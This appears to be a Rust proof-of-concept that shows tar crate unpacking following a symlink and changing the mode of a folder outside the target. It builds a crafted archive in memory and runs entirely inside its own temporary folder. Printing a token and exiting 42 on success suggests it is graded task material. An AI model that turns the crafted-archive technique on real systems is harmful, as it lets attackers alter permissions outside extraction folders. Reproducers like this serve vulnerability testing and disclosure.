//! Shows that unpacking changes the mode of a folder outside of the target by way of a link.
//! Unpacks below a temporary folder of its own; the argument is the mode, in octal digits.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use tar::{Archive, Builder, EntryType, Header};

const MODE_BEFORE: u32 = 0o750;

fn end(present: bool) -> ! {
    println!("{}", std::env::var("BACKSTITCH_TOKEN").unwrap_or_default());
    std::process::exit(if present { 42 } else { 0 })
}

fn append(builder: &mut Builder<Vec<u8>>, kind: EntryType, path: &str, target: &str, mode: u32) {
    let mut header = Header::new_gnu();
    header.set_entry_type(kind);
    header.set_path(path).expect("a short path");
    if kind == EntryType::Symlink {
        header.set_link_name(target).expect("a short name");
    }
    header.set_mode(mode);
    header.set_size(0);
    header.set_cksum();
    builder.append(&header, std::io::empty()).expect("memory");
}

fn main() {
    let argument = std::env::args_os().nth(1).unwrap_or_default();
    let Ok(mode) = u32::from_str_radix(&argument.to_string_lossy(), 8) else {
        end(false)
    };
    // The owner keeps all rights, so that the folder can be removed.
    let mode = (mode & 0o777) | 0o700;

    let mut builder = Builder::new(Vec::new());
    append(&mut builder, EntryType::Directory, "plain", "", 0o700);
    append(
        &mut builder,
        EntryType::Symlink,
        "link",
        "../outside",
        0o777,
    );
    append(&mut builder, EntryType::Directory, "link", "", mode);
    let archive = builder.into_inner().expect("memory");

    let own = std::env::temp_dir().join(format!("reproducer-{}", std::process::id()));
    fs::create_dir(&own).expect("an own folder");
    let (inside, outside) = (own.join("inside"), own.join("outside"));
    fs::create_dir(&inside).expect("an own folder");
    fs::create_dir(&outside).expect("an own folder");
    fs::set_permissions(&outside, Permissions::from_mode(MODE_BEFORE)).expect("an own folder");
    let unpacked = Archive::new(&archive[..]).unpack(&inside);
    println!(
        "unpacked: {:?}",
        unpacked.map_err(|error| error.to_string())
    );
    let worked = inside.join("plain").is_dir();
    let metadata = fs::metadata(&outside).expect("an own folder");
    let after = metadata.permissions().mode() & 0o777;
    fs::remove_dir_all(&own).expect("an own folder");
    assert!(worked, "an ordinary folder was not unpacked");
    println!("mode before {MODE_BEFORE:o}, after {after:o}");
    end(after != MODE_BEFORE)
}
